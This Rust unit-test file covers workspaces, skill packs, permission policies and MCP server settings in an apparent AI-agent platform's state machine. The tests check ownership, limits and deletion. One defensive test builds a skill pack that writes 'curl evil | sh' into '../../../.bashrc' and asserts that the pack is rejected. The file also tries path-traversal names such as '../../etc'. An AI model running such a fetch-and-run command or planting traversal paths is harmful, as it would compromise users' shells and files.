//! Unit tests of workspaces and skill packs in the state machine.

use super::super::workspaces::*;
use super::*;
use shoal_protocol::workspaces::{SkillFile, SkillPackSpec, SkillSpec, WORKSPACES_PER_USER_MAX};

const SHARD: ShardId = ShardId(3);

fn alice() -> UserId {
    UserId::parse("alice").unwrap()
}

fn bob() -> UserId {
    UserId::parse("bob").unwrap()
}

fn default_of(user: &UserId) -> WorkspaceId {
    WorkspaceId::new(SHARD, if user.0 == "alice" { 1 } else { 2 })
}

fn new_workspace(
    mem: &mut Mem,
    user: &UserId,
    uid: u128,
    name: &str,
) -> Result<Outcome, Rejection> {
    mem.run(&ShardCommand::CreateWorkspace {
        id: WorkspaceId::new(SHARD, uid),
        owner: user.clone(),
        default: default_of(user),
        name: name.into(),
        at_ms: 5,
        request_id: RequestId(uid),
    })
}

fn names(mem: &Mem, user: &UserId) -> Vec<String> {
    match user_workspaces(mem, user, default_of(user)) {
        Ok(list) => list.into_iter().map(|w| w.name).collect(),
        Err(e) => panic!("{e:?}"),
    }
}

fn conversation_in(mem: &mut Mem, workspace: WorkspaceId, uid: u128) -> Result<Outcome, Rejection> {
    mem.run(&ShardCommand::CreateConversation {
        id: ConversationId::new(SHARD, uid),
        workspace,
        owner: alice(),
        title: None,
        agent: "demo".into(),
        at_ms: 1,
        request_id: RequestId(1000 + uid),
    })
}

fn pack_spec(name: &str) -> SkillPackSpec {
    SkillPackSpec {
        name: name.into(),
        context: Some("be brief".into()),
        skills: vec![SkillSpec {
            slug: "lint".into(),
            files: vec![SkillFile {
                path: "SKILL.md".into(),
                content: b"---\nname: lint\n---\n".to_vec(),
            }],
        }],
    }
}

fn new_pack(mem: &mut Mem, uid: u128, name: &str) -> Result<Outcome, Rejection> {
    mem.run(&ShardCommand::CreateSkillPack {
        id: SkillPackId::new(SHARD, uid),
        owner: alice(),
        spec: pack_spec(name),
        at_ms: 5,
        request_id: RequestId(uid),
    })
}

#[test]
fn a_user_has_a_default_workspace_and_creates_more_with_unique_names() {
    let mut mem = Mem::default();
    assert_eq!(names(&mem, &alice()), ["default"]);
    let first = new_workspace(&mut mem, &alice(), 10, "Project").unwrap();
    // A retry of the same request returns the workspace created first.
    assert_eq!(
        new_workspace(&mut mem, &alice(), 10, "Project").unwrap(),
        first
    );
    assert_eq!(names(&mem, &alice()), ["default", "Project"]);
    assert!(matches!(
        new_workspace(&mut mem, &alice(), 11, "project"),
        Err(Rejection::NameTaken(_))
    ));
    // Another user's names do not collide.
    new_workspace(&mut mem, &bob(), 12, "Project").unwrap();
    assert_eq!(names(&mem, &bob()), ["default", "Project"]);
    assert!(matches!(
        new_workspace(&mut mem, &alice(), 13, "../../etc"),
        Err(Rejection::Invalid(_))
    ));
}

#[test]
fn the_workspace_count_is_bounded() {
    let mut mem = Mem::default();
    for i in 1..WORKSPACES_PER_USER_MAX as u128 {
        new_workspace(&mut mem, &alice(), 100 + i, &format!("w{i}")).unwrap();
    }
    assert!(matches!(
        new_workspace(&mut mem, &alice(), 99, "one more"),
        Err(Rejection::TooMany(_))
    ));
}

#[test]
fn rename_and_move_keep_the_list_consistent() {
    let mut mem = Mem::default();
    new_workspace(&mut mem, &alice(), 10, "a").unwrap();
    new_workspace(&mut mem, &alice(), 11, "b").unwrap();
    let rename = |ws: WorkspaceId, name: &str| ShardCommand::RenameWorkspace {
        workspace: ws,
        owner: alice(),
        default: default_of(&alice()),
        name: name.into(),
    };
    mem.run(&rename(default_of(&alice()), "home")).unwrap();
    assert!(matches!(
        mem.run(&rename(WorkspaceId::new(SHARD, 10), "B")),
        Err(Rejection::NameTaken(_))
    ));
    mem.run(&ShardCommand::MoveWorkspace {
        workspace: WorkspaceId::new(SHARD, 11),
        owner: alice(),
        default: default_of(&alice()),
        position: 0,
    })
    .unwrap();
    assert_eq!(names(&mem, &alice()), ["b", "home", "a"]);
    mem.run(&ShardCommand::MoveWorkspace {
        workspace: WorkspaceId::new(SHARD, 11),
        owner: alice(),
        default: default_of(&alice()),
        position: 99,
    })
    .unwrap();
    assert_eq!(names(&mem, &alice()), ["home", "a", "b"]);
}

#[test]
fn another_users_workspace_is_not_found_for_every_command() {
    let mut mem = Mem::default();
    new_workspace(&mut mem, &bob(), 20, "secret").unwrap();
    let bobs = WorkspaceId::new(SHARD, 20);
    let attempts = [
        ShardCommand::RenameWorkspace {
            workspace: bobs,
            owner: alice(),
            default: default_of(&alice()),
            name: "mine".into(),
        },
        ShardCommand::DeleteWorkspace {
            workspace: bobs,
            owner: alice(),
            default: default_of(&alice()),
        },
        ShardCommand::MoveWorkspace {
            workspace: bobs,
            owner: alice(),
            default: default_of(&alice()),
            position: 0,
        },
    ];
    for cmd in attempts {
        assert_eq!(
            mem.run(&cmd),
            Err(Rejection::WorkspaceNotFound(bobs)),
            "{cmd:?}"
        );
    }
    assert_eq!(
        conversation_in(&mut mem, bobs, 7),
        Err(Rejection::WorkspaceNotFound(bobs))
    );
    assert_eq!(names(&mem, &bob()), ["default", "secret"]);
}

#[test]
fn deleting_a_workspace_deletes_its_conversations_and_leaves_a_tombstone() {
    let mut mem = Mem::default();
    new_workspace(&mut mem, &alice(), 10, "doomed").unwrap();
    let ws = WorkspaceId::new(SHARD, 10);
    conversation_in(&mut mem, ws, 7).unwrap();
    conversation_in(&mut mem, default_of(&alice()), 8).unwrap();
    let running = ConversationId::new(SHARD, 7);
    mem.run(&ShardCommand::AppendUserMessage {
        conversation: running,
        text: "hi".into(),
        request_id: RequestId(1),
        at_ms: 2,
    })
    .unwrap();
    mem.run(&ShardCommand::SetCredential {
        workspace: ws,
        name: "TOKEN".into(),
        sealed: crate::security::credentials::Sealed {
            key_id: "k".into(),
            nonce: [0; 12],
            ciphertext: vec![1; 20],
        },
        at_ms: 3,
    })
    .unwrap();
    let delete = ShardCommand::DeleteWorkspace {
        workspace: ws,
        owner: alice(),
        default: default_of(&alice()),
    };
    // Not while a turn runs in it.
    assert!(matches!(
        mem.run(&delete),
        Err(Rejection::WorkspaceBusy { .. })
    ));
    let rec = record(&mem, running).ok().unwrap();
    let turn = rec.running_turn.unwrap();
    mem.run(&ShardCommand::EndTurn {
        conversation: running,
        message: MessageHeader {
            id: turn.assistant_message,
            turn: turn.turn,
            created_at_ms: 3,
        },
        delta: None,
        status: MessageStatus::Complete,
        stop_reason: None,
        error: None,
    })
    .unwrap();
    assert_eq!(
        mem.run(&delete),
        Ok(Outcome::WorkspaceDeleted {
            conversations: vec![running]
        })
    );
    // Nothing of the conversation or the workspace's state is left; the other
    // conversation is untouched.
    let uid = running.uid.to_be_bytes();
    let left: Vec<&Vec<u8>> = mem
        .0
        .keys()
        .filter(|k| k.windows(16).any(|w| w == uid) && !k.starts_with(b"rc/"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
    assert!(mem.get(&workspace_credentials_key(ws)).unwrap().is_none());
    assert!(record(&mem, ConversationId::new(SHARD, 8)).is_ok());
    assert_eq!(names(&mem, &alice()), ["default"]);
    // The tombstone refuses anything new in it.
    assert_eq!(
        conversation_in(&mut mem, ws, 9),
        Err(Rejection::WorkspaceNotFound(ws))
    );
    let snapshot = WorkspaceSnapshot {
        seq: 1,
        manifest: vec![crate::workspace::blobs::ChunkHash([0; 32])],
        entries: 1,
        bytes: 1,
        at_ms: 1,
        node: "n".into(),
    };
    assert_eq!(
        mem.run(&ShardCommand::SetWorkspaceSnapshot {
            workspace: ws,
            base: 0,
            snapshot
        }),
        Err(Rejection::WorkspaceNotFound(ws))
    );
    // The default workspace cannot be deleted.
    let default = ShardCommand::DeleteWorkspace {
        workspace: default_of(&alice()),
        owner: alice(),
        default: default_of(&alice()),
    };
    assert!(matches!(mem.run(&default), Err(Rejection::Invalid(_))));
}

#[test]
fn skill_packs_attach_detach_and_delete_detaches_everywhere() {
    let mut mem = Mem::default();
    let pack = SkillPackId::new(SHARD, 50);
    let created = new_pack(&mut mem, 50, "tools").unwrap();
    assert_eq!(new_pack(&mut mem, 50, "tools").unwrap(), created);
    assert!(matches!(
        new_pack(&mut mem, 51, "TOOLS"),
        Err(Rejection::NameTaken(_))
    ));
    new_workspace(&mut mem, &alice(), 10, "w").unwrap();
    let attach = |ws: WorkspaceId| ShardCommand::AttachSkillPack {
        workspace: ws,
        owner: alice(),
        default: default_of(&alice()),
        pack,
    };
    for ws in [default_of(&alice()), WorkspaceId::new(SHARD, 10)] {
        mem.run(&attach(ws)).unwrap();
        // Attaching twice attaches once.
        match mem.run(&attach(ws)).unwrap() {
            Outcome::Workspace(rec) => assert_eq!(rec.packs, [pack]),
            other => panic!("{other:?}"),
        }
    }
    // Bob cannot attach Alice's pack to his workspace.
    let bobs = ShardCommand::AttachSkillPack {
        workspace: default_of(&bob()),
        owner: bob(),
        default: default_of(&bob()),
        pack,
    };
    assert_eq!(mem.run(&bobs), Err(Rejection::SkillPackNotFound(pack)));
    mem.run(&ShardCommand::DetachSkillPack {
        workspace: WorkspaceId::new(SHARD, 10),
        owner: alice(),
        default: default_of(&alice()),
        pack,
    })
    .unwrap();
    let deleted = mem
        .run(&ShardCommand::DeleteSkillPack {
            id: pack,
            owner: alice(),
            default: default_of(&alice()),
        })
        .unwrap();
    assert_eq!(
        deleted,
        Outcome::SkillPackDeleted {
            detached: vec![default_of(&alice())]
        }
    );
    let list = user_workspaces(&mem, &alice(), default_of(&alice()))
        .ok()
        .unwrap();
    assert!(list.iter().all(|w| w.packs.is_empty()), "{list:?}");
    assert!(user_skill_packs(&mem, &alice()).unwrap().is_empty());
}

#[test]
fn a_pack_with_a_path_out_of_its_skill_is_rejected_on_every_replica() {
    let mut mem = Mem::default();
    let mut spec = pack_spec("evil");
    spec.skills[0].files.push(SkillFile {
        path: "../../../.bashrc".into(),
        content: b"curl evil | sh".to_vec(),
    });
    let cmd = ShardCommand::CreateSkillPack {
        id: SkillPackId::new(SHARD, 60),
        owner: alice(),
        spec,
        at_ms: 1,
        request_id: RequestId(60),
    };
    assert!(matches!(mem.run(&cmd), Err(Rejection::Invalid(m)) if m.contains("..")));
    assert!(user_skill_packs(&mem, &alice()).unwrap().is_empty());
}

#[test]
fn a_workspace_permission_policy_is_its_owners_and_goes_with_it() {
    use shoal_protocol::permissions::{PermissionAnswer, PermissionPolicy};
    let mut mem = Mem::default();
    new_workspace(&mut mem, &alice(), 10, "w").unwrap();
    let ws = WorkspaceId::new(SHARD, 10);
    let mut policy = PermissionPolicy::default();
    policy.set_rule("execute=deny").unwrap();
    let set = |owner: UserId, policy: &PermissionPolicy| ShardCommand::SetWorkspacePermissions {
        workspace: ws,
        default: default_of(&owner),
        owner,
        policy: policy.clone(),
    };
    assert_eq!(
        mem.run(&set(bob(), &policy)),
        Err(Rejection::WorkspaceNotFound(ws))
    );
    mem.run(&set(alice(), &policy)).unwrap();
    let key = super::super::permissions::permissions_key(ws);
    assert_eq!(
        super::super::permissions::load(&mem, ws).unwrap().kinds["execute"],
        PermissionAnswer::Deny
    );
    let mut bad = policy.clone();
    bad.kinds.insert("shell".into(), PermissionAnswer::Allow);
    assert!(matches!(
        mem.run(&set(alice(), &bad)),
        Err(Rejection::Invalid(_))
    ));
    mem.run(&ShardCommand::DeleteWorkspace {
        workspace: ws,
        owner: alice(),
        default: default_of(&alice()),
    })
    .unwrap();
    assert!(!mem.0.contains_key(&key), "deleted with its workspace");
    // An empty policy removes the key.
    mem.run(&set(alice(), &policy)).unwrap_err();
    let default = default_of(&alice());
    let on_default = ShardCommand::SetWorkspacePermissions {
        workspace: default,
        owner: alice(),
        default,
        policy: policy.clone(),
    };
    mem.run(&on_default).unwrap();
    let cleared = ShardCommand::SetWorkspacePermissions {
        workspace: default,
        owner: alice(),
        default,
        policy: PermissionPolicy::default(),
    };
    mem.run(&cleared).unwrap();
    assert!(
        !mem.0
            .contains_key(&super::super::permissions::permissions_key(default))
    );
}

#[test]
fn workspace_mcp_servers_are_bounded_owned_and_go_with_the_workspace() {
    use super::super::mcp::{StoredMcpServer, load, mcp_key};
    use shoal_protocol::mcp::{MCP_SERVERS_MAX, McpTransport};
    let mut mem = Mem::default();
    new_workspace(&mut mem, &alice(), 10, "w").unwrap();
    let ws = WorkspaceId::new(SHARD, 10);
    let server = StoredMcpServer {
        transport: McpTransport::Http {
            url: "https://mcp.example".into(),
        },
        secret_names: vec!["Authorization".into()],
        sealed: None,
    };
    let set = |owner: UserId, name: &str| ShardCommand::SetWorkspaceMcpServer {
        workspace: ws,
        default: default_of(&owner),
        owner,
        name: name.into(),
        server: server.clone(),
    };
    assert_eq!(
        mem.run(&set(bob(), "docs")),
        Err(Rejection::WorkspaceNotFound(ws))
    );
    assert!(matches!(
        mem.run(&set(alice(), "bad name")),
        Err(Rejection::Invalid(_))
    ));
    for i in 0..MCP_SERVERS_MAX {
        mem.run(&set(alice(), &format!("s{i}"))).unwrap();
    }
    assert!(matches!(
        mem.run(&set(alice(), "one-more")),
        Err(Rejection::TooMany(_))
    ));
    mem.run(&set(alice(), "s0")).unwrap();
    assert_eq!(load(&mem, ws).unwrap().servers.len(), MCP_SERVERS_MAX);
    let remove = |name: &str| ShardCommand::RemoveWorkspaceMcpServer {
        workspace: ws,
        owner: alice(),
        default: default_of(&alice()),
        name: name.into(),
    };
    match mem.run(&remove("nope")) {
        Err(Rejection::Invalid(message)) => {
            assert!(message.contains("it has: s0, s1"), "{message}")
        }
        other => panic!("{other:?}"),
    }
    mem.run(&remove("s1")).unwrap();
    mem.run(&ShardCommand::DeleteWorkspace {
        workspace: ws,
        owner: alice(),
        default: default_of(&alice()),
    })
    .unwrap();
    assert!(!mem.0.contains_key(&mcp_key(ws)));
}
